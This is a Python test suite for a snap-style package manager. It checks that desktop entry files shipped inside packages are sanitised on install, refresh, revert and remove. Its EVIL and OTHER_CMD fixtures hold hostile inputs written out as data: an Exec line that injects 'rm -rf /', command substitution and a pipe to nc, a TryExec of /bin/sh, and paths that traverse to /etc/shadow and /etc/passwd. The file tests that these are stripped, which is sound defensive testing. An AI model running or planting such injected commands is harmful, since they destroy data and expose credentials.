"""Issue 13, desktop integration: a snap's meta/gui/*.desktop files are
installed as <state>/desktop/applications/<instance>_<name>.desktop with
only snapd's keys, Exec= the app's /snap/bin entry (which runs it in its
sandbox), Icon= inside the snap; desktop-file-validate accepts each; they
follow install, refresh, revert and remove exactly. /etc/profile.d/cordon.sh
puts the directory's parent on XDG_DATA_DIRS."""
import os
import subprocess

import cordonlib
from cordonlib import CordonTestCase

from test_snap_bin import SnapBinMixin

YAML = """
name: editor
version: '{version}'
apps:
  editor:
    command: bin/probe
  tool:
    command: bin/probe
"""

GOOD = """[Desktop Entry]
Version=1.0
Type=Application
Name=Editor {version}
Name[de]=Bearbeiter
Comment=Edits text
Exec=editor %F
Icon=${{SNAP}}/meta/gui/editor.png
Categories=Utility;TextEditor;
Actions=new-window;

[Desktop Action new-window]
Name=New Window
Exec=editor.tool --new-window
"""

# what an author could try: a shell in Exec, keys the desktop would act on
# (TryExec, Path, DBusActivatable, X-*), an icon outside the snap, another
# snap's command, a key twice
EVIL = """X-Before-Group=1
[Desktop Entry]
Type=Application
Name=Evil
Name=Evil twice
Exec=editor.tool %U; rm -rf / `id` $(id) | nc host 1 > /tmp/x
TryExec=/bin/sh
Path=/
DBusActivatable=true
X-GNOME-Autostart-enabled=true
Icon=${SNAP}/../../../etc/shadow
Terminal=false
"""

OTHER_CMD = """[Desktop Entry]
Type=Application
Name=Other
Exec=/bin/sh -c id
Icon=/etc/passwd
"""


class DesktopTest(SnapBinMixin, CordonTestCase):
    def desktop_dir(self):
        return self.path("var", "lib", "cordon", "desktop", "applications")

    def files(self):
        d = self.desktop_dir()
        return sorted(os.listdir(d)) if os.path.isdir(d) else []

    def read(self, name):
        with open(os.path.join(self.desktop_dir(), name)) as f:
            return f.read()

    def make(self, version, gui):
        d = self.s.make_snap("editor", YAML.format(version=version),
                             files={f"meta/gui/{k}": (v, 0o644) for k, v in gui.items()},
                             dirname=f"editor-{version}")
        with open(os.path.join(d, "meta", "gui", "editor.png"), "wb") as f:
            f.write(b"\x89PNG\r\n\x1a\n")
        # a link to a host file, and a name no desktop file of cordon's has
        os.symlink("/etc/passwd", os.path.join(d, "meta", "gui", "link.desktop"))
        with open(os.path.join(d, "meta", "gui", "a_b.desktop"), "w") as f:
            f.write(GOOD.format(version=version))
        self.cordon("install", "--dangerous", self.s.pack(d))

    def validate(self):
        for name in self.files():
            p = subprocess.run(["desktop-file-validate", os.path.join(self.desktop_dir(), name)],
                               capture_output=True, text=True)
            self.assertEqual((p.returncode, p.stdout + p.stderr), (0, ""), name)

    def expected_good(self, version):
        snap = self.path("snap", "editor", "current")
        bindir = self.bin_dir()
        return (f"[Desktop Entry]\nX-SnapInstanceName=editor\nVersion=1.0\nType=Application\n"
                f"Name=Editor {version}\nName[de]=Bearbeiter\nComment=Edits text\n"
                f"X-SnapAppName=editor\nExec={bindir}/editor %F\n"
                f"Icon={snap}/meta/gui/editor.png\n"
                f"Categories=Utility;TextEditor;\nActions=new-window;\n\n"
                f"[Desktop Action new-window]\nName=New Window\n"
                f"X-SnapAppName=tool\nExec={bindir}/editor.tool --new-window\n")

    def test_installed_sanitized_and_valid(self):
        self.make("1.0", {"editor.desktop": GOOD.format(version="1.0"), "evil.desktop": EVIL,
                          "tool.desktop": OTHER_CMD})
        self.assertEqual(self.files(), ["editor_editor.desktop", "editor_evil.desktop",
                                        "editor_tool.desktop"])
        self.assertEqual(self.read("editor_editor.desktop"), self.expected_good("1.0"))
        bindir = self.bin_dir()
        self.assertEqual(self.read("editor_evil.desktop"),
                         f"[Desktop Entry]\nX-SnapInstanceName=editor\nType=Application\n"
                         f"Name=Evil\nX-SnapAppName=tool\nExec={bindir}/editor.tool\n"
                         f"Terminal=false\n")
        # an unknown command is the app the file is named after (snapd's),
        # without the line's arguments; an icon outside the snap is dropped
        self.assertEqual(self.read("editor_tool.desktop"),
                         f"[Desktop Entry]\nX-SnapInstanceName=editor\nType=Application\n"
                         f"Name=Other\nX-SnapAppName=tool\nExec={bindir}/editor.tool\n")
        self.validate()
        for name in self.files():
            st = os.lstat(os.path.join(self.desktop_dir(), name))
            self.assertEqual((st.st_uid, st.st_mode & 0o7777), (0, 0o644))
        # the icon is the snap's own file
        self.assertTrue(os.path.isfile(self.path("snap", "editor", "current", "meta", "gui",
                                                 "editor.png")))
        # what Exec= runs is the app in its sandbox
        exec_line = [ln for ln in self.read("editor_editor.desktop").splitlines()
                     if ln.startswith("Exec=")][0]
        cmd = exec_line[len("Exec="):].split()[0]
        p = subprocess.run([cmd, "cgroup"], capture_output=True, text=True, env=self.s.env(),
                           cwd="/", timeout=60)
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertIn("/snap.editor.editor", p.stdout)
        self.assertEqual(self.entry_ok("editor.tool", "env", "SNAP_NAME"), "OK editor")

    def test_follow_refresh_revert_remove(self):
        self.make("1.0", {"editor.desktop": GOOD.format(version="1.0"), "evil.desktop": EVIL})
        # a file not of this snap's is left alone
        os.makedirs(self.desktop_dir(), exist_ok=True)
        mine = os.path.join(self.desktop_dir(), "editorx_y.desktop")
        with open(mine, "w") as f:
            f.write("[Desktop Entry]\n")
        self.make("2.0", {"editor.desktop": GOOD.format(version="2.0"),
                          "new.desktop": OTHER_CMD.replace("/bin/sh -c id", "editor.tool")})
        self.assertEqual(self.files(), ["editor_editor.desktop", "editor_new.desktop",
                                        "editorx_y.desktop"])
        self.assertEqual(self.read("editor_editor.desktop"), self.expected_good("2.0"))
        os.unlink(mine)
        self.validate()
        self.cordon("revert", "editor")
        self.assertEqual(self.files(), ["editor_editor.desktop", "editor_evil.desktop"])
        self.assertEqual(self.read("editor_editor.desktop"), self.expected_good("1.0"))
        self.validate()
        self.cordon("remove", "editor")
        self.assertEqual(self.files(), [])

    def test_parallel_instance(self):
        d = self.s.make_snap("editor", YAML.format(version="1.0"),
                             files={"meta/gui/editor.desktop": (GOOD.format(version="1"),
                                                                0o644)})
        self.cordon("install", "--dangerous", d)
        self.cordon("install", "--dangerous", "--name", "editor_k", d)
        self.assertEqual(self.files(), ["editor_editor.desktop", "editor_k_editor.desktop"])
        text = self.read("editor_k_editor.desktop")
        self.assertIn("X-SnapInstanceName=editor_k\n", text)
        self.assertIn(f"Exec={self.bin_dir()}/editor_k %F\n", text)
        self.assertIn(f"Icon={self.path('snap', 'editor_k', 'current')}/meta/gui/", text)
        self.validate()
        self.cordon("remove", "editor")
        self.assertEqual(self.files(), ["editor_k_editor.desktop"])


class ProfileXdgTest(CordonTestCase):
    def test_xdg_data_dirs_once(self):
        script = os.path.join(cordonlib.PREFIX, "etc", "profile.d", "cordon.sh")
        desk = os.path.join(cordonlib.SYSTEM_ROOT, "var", "lib", "cordon", "desktop")

        def dirs(env):
            return subprocess.run(["sh", "-c", f". {script}; . {script}; "
                                   "echo \"$XDG_DATA_DIRS\""],
                                  env=dict(env, PATH="/usr/bin:/bin"), capture_output=True,
                                  text=True, check=True).stdout.strip()

        self.assertEqual(dirs({}), f"/usr/local/share:/usr/share:{desk}")
        self.assertEqual(dirs({"XDG_DATA_DIRS": "/opt/share"}), f"/opt/share:{desk}")


if __name__ == "__main__":
    import unittest
    unittest.main()
